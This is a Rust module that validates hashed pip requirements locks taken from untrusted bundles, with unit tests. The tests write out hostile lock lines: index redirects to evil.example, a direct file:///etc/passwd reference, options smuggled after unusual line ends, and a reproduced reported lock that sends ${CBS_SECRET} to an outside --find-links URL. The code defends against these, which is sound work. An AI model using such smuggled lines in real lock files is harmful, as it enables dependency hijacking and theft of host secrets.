//! Requirements locks: the pinned, hashed pip requirements a bundled
//! native Python cell declares (`[python] requirements`).
//!
//! A lock comes from a bundle, so it is hostile. It is read the way pip
//! reads a requirements file (pip's `req_file.py`): lines end wherever
//! Python's `str.splitlines` ends them (`\r`, `\x0b`, `\x0c`, `\x1c`-`\x1e`,
//! `\x85`, U+2028, U+2029 as well as `\n`), a trailing `\` joins the next
//! line, and `#` after whitespace starts a comment. Each line must then be
//! a package from the index by exact version with its hashes (what
//! `pip-compile --generate-hashes` writes). Refused: options that redirect
//! pip (`--index-url`, `-f`, `-e`, `-r`, …), direct URLs and local paths,
//! environment markers (`; python_version < "3"`: what is installed would
//! depend on the host) and `${VAR}` anywhere (pip fills it in from its
//! environment).
//!
//! pip never reads the bundle's text: the host hands it [`Lock::render`],
//! the checked pins written anew, one a line, so whatever pip would read
//! differently from this parser never reaches it.

use anyhow::{bail, Context as _};

/// The largest lock read (a large pip-compile output is ~100 KiB).
pub const MAX_BYTES: usize = 1 << 20;
/// The most requirements in one lock.
pub const MAX_PACKAGES: usize = 10_000;
/// Characters of the lock's text an error repeats.
const SHOWN_CHARS: usize = 80;

/// A checked lock.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Lock {
    pub packages: Vec<Pin>,
}

/// One pinned requirement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pin {
    pub name: String,
    pub version: String,
    /// `<algorithm>:<hex>`, checked.
    pub hashes: Vec<String>,
}

impl Lock {
    /// Parses and checks a lock; the error names the line and what to do.
    pub fn parse(text: &str) -> anyhow::Result<Self> {
        if text.len() > MAX_BYTES {
            bail!(
                "the requirements lock is {} bytes, more than {MAX_BYTES}",
                text.len()
            );
        }
        let counted = how_lines_are_counted(text);
        refuse_variables(text, counted)?;
        let mut packages = Vec::new();
        for (line_no, line) in logical_lines(text) {
            let pin = parse_line(&line).with_context(|| {
                format!(
                    "requirements lock line {line_no}{counted}: a lock names each package as \
                     `name==version --hash=sha256:...` (make one with \
                     `pip-compile --generate-hashes`)"
                )
            })?;
            packages.push(pin);
            if packages.len() > MAX_PACKAGES {
                bail!("the requirements lock names more than {MAX_PACKAGES} packages");
            }
        }
        Ok(Self { packages })
    }

    /// The lock pip is given: each pin as `name==version --hash=...` on a
    /// line of its own, and nothing else of the bundle's text.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for pin in &self.packages {
            out.push_str(&pin.name);
            out.push_str("==");
            out.push_str(&pin.version);
            for hash in &pin.hashes {
                out.push_str(" --hash=");
                out.push_str(hash);
            }
            out.push('\n');
        }
        out
    }
}

/// Said after a line number when the text has line ends other than `\n`
/// and `\r\n`: pip's line numbers, used here, are then not an editor's.
fn how_lines_are_counted(text: &str) -> &'static str {
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\r' && chars.peek() == Some(&'\n') {
            chars.next();
        } else if c != '\n' && is_line_end(c) {
            return " (counted as pip counts lines, which also end at \\r, \\x0b, \\x0c, \\x1c-\\x1e, \\x85, U+2028 and U+2029)";
        }
    }
    ""
}

/// pip replaces `${NAME}` with the variable from its environment: a lock
/// could put a host's secret into a URL. None anywhere, comments included.
fn refuse_variables(text: &str, counted: &str) -> anyhow::Result<()> {
    for (i, line) in physical_lines(text).enumerate() {
        if line.contains("${") {
            bail!(
                "requirements lock line {}{counted}: `${{` is refused: pip would fill in `${{NAME}}` \
                 from its environment, and a lock holds only fixed pins",
                i + 1
            );
        }
    }
    Ok(())
}

/// Python's `str.splitlines` line ends (what pip splits a file at).
fn is_line_end(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r'
            | '\x0b'
            | '\x0c'
            | '\x1c'
            | '\x1d'
            | '\x1e'
            | '\u{85}'
            | '\u{2028}'
            | '\u{2029}'
    )
}

/// Python's `\s` and `str.strip` whitespace (Rust's and `\x1c`-`\x1f`).
fn is_space(c: char) -> bool {
    c.is_whitespace() || ('\x1c'..='\x1f').contains(&c)
}

/// The text's lines as `str.splitlines` cuts them (`\r\n` is one end).
fn physical_lines(text: &str) -> impl Iterator<Item = &str> {
    let mut rest = text;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let Some((at, end)) = rest.char_indices().find(|(_, c)| is_line_end(*c)) else {
            return Some(std::mem::take(&mut rest));
        };
        let line = &rest[..at];
        let mut next = at + end.len_utf8();
        if end == '\r' && rest[next..].starts_with('\n') {
            next += 1;
        }
        rest = &rest[next..];
        Some(line)
    })
}

/// pip's `join_lines` then `ignore_comments`: a line ending in `\` (and
/// not itself a comment) joins the next one; comments are cut; blank lines
/// skipped. Each with the number of the line it starts on.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut lines = Vec::new();
    let mut keep = |n: usize, line: &str| {
        let line = strip_comment(line).trim_matches(is_space);
        if !line.is_empty() {
            lines.push((n, line.to_owned()));
        }
    };
    let mut joined: Option<(usize, String)> = None;
    for (i, line) in physical_lines(text).enumerate() {
        let comment = line.trim_start_matches(is_space).starts_with('#');
        if !line.ends_with('\\') || comment {
            // pip: "this ensures comments are always matched later".
            let line = if comment {
                format!(" {line}")
            } else {
                line.to_owned()
            };
            match joined.take() {
                Some((n, mut start)) => {
                    start.push_str(&line);
                    keep(n, &start);
                }
                None => keep(i + 1, &line),
            }
        } else {
            let entry = joined.get_or_insert_with(|| (i + 1, String::new()));
            entry.1.push_str(line.trim_matches('\\'));
        }
    }
    if let Some((n, line)) = joined {
        keep(n, &line);
    }
    lines
}

/// pip's rule: `#` at the start or after whitespace starts a comment.
fn strip_comment(line: &str) -> &str {
    let mut previous = None;
    for (i, c) in line.char_indices() {
        if c == '#' && previous.is_none_or(is_space) {
            return &line[..i];
        }
        previous = Some(c);
    }
    line
}

fn parse_line(line: &str) -> anyhow::Result<Pin> {
    if line.starts_with('-') {
        bail!(
            "`{}` is a pip option, which a lock may not set",
            shown(first_word(line))
        );
    }
    // pip's `break_args_options`: options start at the first word (split
    // at spaces) that starts with `-`.
    let (requirement, options) = match line.find(" -") {
        Some(i) => line.split_at(i),
        None => (line, ""),
    };
    let mut hashes = Vec::new();
    let mut words = options.split_whitespace();
    while let Some(word) = words.next() {
        let value = match word.strip_prefix("--hash") {
            Some("") => words.next().unwrap_or(""),
            Some(rest) => rest.strip_prefix('=').unwrap_or("!"),
            None => bail!(
                "`{}` is a pip option, which a lock may not set",
                shown(word)
            ),
        };
        check_hash(value)?;
        hashes.push(value.to_owned());
    }
    let (name, version) = parse_requirement(requirement.trim_matches(is_space))?;
    if hashes.is_empty() {
        bail!("{name}=={version} has no --hash");
    }
    Ok(Pin {
        name,
        version,
        hashes,
    })
}

/// `name[extras]==version` → name and version (extras are dropped: their
/// packages are pinned in the lock themselves).
fn parse_requirement(spec: &str) -> anyhow::Result<(String, String)> {
    if let Some((_, marker)) = spec.split_once(';') {
        bail!(
            "`;{}` is an environment marker, which a lock may not have (what is installed \
             would depend on the host): compile the lock for the hosts' Python and platform",
            shown(marker)
        );
    }
    if spec.contains('@') || spec.contains("://") {
        bail!(
            "`{}` is a direct URL or path; a lock names packages from the index",
            shown(spec)
        );
    }
    let Some((name, version)) = spec.split_once("==") else {
        bail!("`{}` is not pinned with ==", shown(spec));
    };
    let name = strip_extras(name.trim_matches(is_space))?;
    let version = version.trim_start_matches('=').trim_matches(is_space);
    check_name(name)?;
    check_version(version)?;
    Ok((name.to_owned(), version.to_owned()))
}

/// `name[a,b]` → `name`; the extras must be names too.
fn strip_extras(name: &str) -> anyhow::Result<&str> {
    let Some((name, extras)) = name.split_once('[') else {
        return Ok(name);
    };
    let extras = extras.strip_suffix(']').unwrap_or("!");
    for extra in extras.split(',') {
        check_name(extra.trim_matches(is_space))
            .with_context(|| format!("`[{}]` is not a list of extras", shown(extras)))?;
    }
    Ok(name.trim_matches(is_space))
}

/// A PEP 508 name: letters, digits, `.`, `_`, `-`, starting and ending
/// with a letter or digit.
fn check_name(name: &str) -> anyhow::Result<()> {
    let inner = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    let ends = name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.ends_with(|c: char| c.is_ascii_alphanumeric());
    if !ends || !name.chars().all(inner) {
        bail!("`{}` is not a package name", shown(name));
    }
    Ok(())
}

/// An exact PEP 440 version's characters, starting with a letter or digit.
fn check_version(version: &str) -> anyhow::Result<()> {
    let inner = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+' | '!');
    if !version.starts_with(|c: char| c.is_ascii_alphanumeric()) || !version.chars().all(inner) {
        bail!("`{}` is not an exact version", shown(version));
    }
    Ok(())
}

/// `sha256:<64 hex>` (or sha384 / sha512 with their lengths).
fn check_hash(value: &str) -> anyhow::Result<()> {
    let ok = value.split_once(':').is_some_and(|(algorithm, hex)| {
        let len = match algorithm {
            "sha256" => 64,
            "sha384" => 96,
            "sha512" => 128,
            _ => return false,
        };
        hex.len() == len && hex.bytes().all(|b| b.is_ascii_hexdigit())
    });
    if !ok {
        bail!(
            "`--hash={}` is not sha256:<64 hex digits> (or sha384/sha512)",
            shown(value)
        );
    }
    Ok(())
}

fn first_word(line: &str) -> &str {
    line.split(|c: char| is_space(c) || c == '=')
        .next()
        .unwrap_or(line)
}

/// Text of the lock in an error: at most [`SHOWN_CHARS`] characters,
/// control characters and line ends escaped.
fn shown(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars().take(SHOWN_CHARS) {
        if c.is_control() || is_line_end(c) {
            out.extend(c.escape_debug());
        } else {
            out.push(c);
        }
    }
    if text.chars().nth(SHOWN_CHARS).is_some() {
        out.push('…');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const H1: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    const H2: &str = "sha256:fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210";
    /// Every line end of Python's `str.splitlines`, which pip splits at.
    const LINE_ENDS: [&str; 11] = [
        "\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\u{85}", "\u{2028}",
        "\u{2029}",
    ];

    fn pin(name: &str, version: &str, hashes: &[&str]) -> Pin {
        Pin {
            name: name.into(),
            version: version.into(),
            hashes: hashes.iter().map(|h| (*h).to_owned()).collect(),
        }
    }

    fn refusal(text: &str) -> String {
        match Lock::parse(text) {
            Ok(lock) => panic!("accepted {text:?} as {lock:?}"),
            Err(e) => format!("{e:#}"),
        }
    }

    #[test]
    fn reads_what_pip_compile_writes() {
        let text = format!(
            "#\n# pip-compile --generate-hashes\n#\nnumpy==2.1.3 \\\n    --hash={H1} \\\n    \
             --hash={H2}\n    # via -r requirements.in\nrich[jupyter]==13.0.0 --hash {H1}\n"
        );
        let lock = Lock::parse(&text).unwrap();
        assert_eq!(
            lock.packages,
            vec![
                pin("numpy", "2.1.3", &[H1, H2]),
                pin("rich", "13.0.0", &[H1])
            ]
        );
        assert!(Lock::parse("# nothing\n\n").unwrap().packages.is_empty());
    }

    #[test]
    fn refuses_what_is_not_a_hashed_pin_from_the_index() {
        let cases = [
            ("numpy>=2", "not pinned"),
            ("numpy==2.1.3", "has no --hash"),
            ("numpy==2.1.3 --hash=md5:00", "is not sha256"),
            (
                &format!("numpy==2.1.3 --hash=sha256:00{}", &H1[7..]),
                "is not sha256",
            ),
            ("--index-url https://evil.example/simple", "pip option"),
            ("-e .", "pip option"),
            ("-r ../../other.txt", "pip option"),
            (
                &format!("numpy==2.1.3 --hash={H1} --extra-index-url x"),
                "pip option",
            ),
            (
                &format!("evil @ file:///etc/passwd --hash={H1}"),
                "direct URL",
            ),
            (
                &format!("evil @ https://evil.example/e.whl --hash={H1}"),
                "direct URL",
            ),
            (&format!("./local.whl --hash={H1}"), "not pinned"),
            (&format!("n$me==1 --hash={H1}"), "not a package name"),
            (&format!(".numpy==1 --hash={H1}"), "not a package name"),
            (&format!("rich[a/b]==1 --hash={H1}"), "not a list of extras"),
            (&format!("numpy==2.* --hash={H1}"), "not an exact version"),
        ];
        for (line, expected) in cases {
            let err = refusal(line);
            assert!(err.contains(expected), "{line}: {err}");
            assert!(err.contains("line 1"), "{line}: {err}");
        }
    }

    /// pip cuts lines at every `str.splitlines` line end: so does the
    /// check, so a line after `\r` (or `\x0c`, U+2028, …) is a line of its
    /// own here too, and an option on it is refused as one.
    #[test]
    fn every_line_end_pip_splits_at_ends_a_line_here_too() {
        for end in LINE_ENDS {
            let two = format!("a==1 --hash={H1}{end}b==2 --hash={H2}");
            assert_eq!(
                Lock::parse(&two).map(|l| l.packages).ok(),
                Some(vec![pin("a", "1", &[H1]), pin("b", "2", &[H2])]),
                "two pins split by {end:?}"
            );
            let smuggled = format!("a==1 --hash={H1}{end}--find-links http://127.0.0.1:9/");
            let err = refusal(&smuggled);
            assert!(
                err.contains("line 2") && err.contains("`--find-links` is a pip option"),
                "{end:?}: {err}"
            );
        }
        let err = refusal(&format!("a==1 --hash={H1}\x0c-f http://127.0.0.1:9/"));
        assert!(err.contains("counted as pip counts lines"), "{err}");
    }

    #[test]
    fn refuses_environment_markers() {
        for line in [
            format!("x==1 ; python_version < \"1\" --hash={H1}"),
            format!("x==1;sys_platform=='win32' --hash={H1}"),
            "x==1 ; python_version < \"1\"".to_owned(),
        ] {
            let err = refusal(&line);
            assert!(
                err.contains("line 1") && err.contains("is an environment marker"),
                "{line}: {err}"
            );
        }
    }

    #[test]
    fn refuses_variables_pip_would_fill_in_anywhere() {
        for text in [
            format!("a==${{V}} --hash={H1}"),
            format!("a==1 --hash={H1} # see ${{HOME}}"),
            "# ok\na==1 --hash=sha256:${X}".to_owned(),
            format!("a==1 \\\n --hash={H1} ${{X}}"),
        ] {
            let err = refusal(&text);
            assert!(err.contains("`${` is refused"), "{text:?}: {err}");
        }
    }

    /// The lock of the report: a false marker hid a `\r`-separated
    /// `--find-links` to an outside address with a host variable in it.
    #[test]
    fn refuses_the_reported_option_smuggling_lock() {
        let text = format!(
            "x==1 ; python_version < \"1\"\r--find-links http://127.0.0.1:9/${{CBS_SECRET}}/\r \
             --hash={H1}\n"
        );
        let err = refusal(&text);
        assert!(
            err.contains("line 2") && err.contains("`${` is refused"),
            "{err}"
        );
        let without_variable = text.replace("${CBS_SECRET}/", "");
        let err = refusal(&without_variable);
        assert!(err.contains("environment marker"), "{err}");
    }

    /// A trailing `\` joins the next line as pip joins it: an option
    /// continued onto a pin is the pin's option, refused.
    #[test]
    fn continuations_join_lines_as_pip_joins_them() {
        for end in ["\n", "\r", "\u{2028}"] {
            let text = format!("a==1 \\{end}--find-links http://127.0.0.1:9/ \\{end}--hash={H1}");
            let err = refusal(&text);
            assert!(
                err.contains("line 1") && err.contains("`--find-links` is a pip option"),
                "{end:?}: {err}"
            );
        }
        // A comment line never continues; a `\` followed by a space is no
        // continuation (pip checks the line's very end).
        let err = refusal(&format!(
            "# note \\\n--index-url http://127.0.0.1:9/\na==1 --hash={H1}"
        ));
        assert!(
            err.contains("line 2") && err.contains("`--index-url`"),
            "{err}"
        );
        let err = refusal(&format!(
            "a==1 --hash={H1} \\ \n--index-url http://127.0.0.1:9/"
        ));
        assert!(
            err.contains("line 1") && err.contains("`\\` is a pip option"),
            "{err}"
        );
    }

    /// What pip is handed is the host's rewrite: the pins alone, one a
    /// line, however the bundle's lock was laid out.
    #[test]
    fn the_lock_pip_is_given_is_the_canonical_pins_alone() {
        let text = format!(
            "# pip-compile --generate-hashes\r\nnumpy==2.1.3 \\\r\n    --hash {H1} \\\r\n    \
             --hash={H2}  # pinned\r\n    # via -r requirements.in\r\n\r\n\
             Rich[jupyter] === 13.0.0 --hash={H1}\x0cpyyaml==6.0.2 --hash={H2}"
        );
        let lock = Lock::parse(&text).unwrap();
        let expected = format!(
            "numpy==2.1.3 --hash={H1} --hash={H2}\nRich==13.0.0 --hash={H1}\n\
             pyyaml==6.0.2 --hash={H2}\n"
        );
        assert_eq!(lock.render(), expected);
        assert_eq!(
            Lock::parse(&expected).unwrap(),
            lock,
            "the rewrite reads back"
        );
    }

    #[test]
    fn errors_show_the_lock_s_text_escaped_and_short() {
        let err = refusal(&format!("-\x1b[31m{}", "x".repeat(500)));
        assert!(!err.contains('\x1b') && err.contains('…'), "{err}");
    }

    #[test]
    fn bounds_what_it_reads() {
        let big = "#".repeat(MAX_BYTES + 1);
        assert!(refusal(&big).contains("more than"));
        let many = format!("a==1 --hash={H1}\n").repeat(MAX_PACKAGES + 1);
        assert!(refusal(&many).contains("more than"));
    }
}
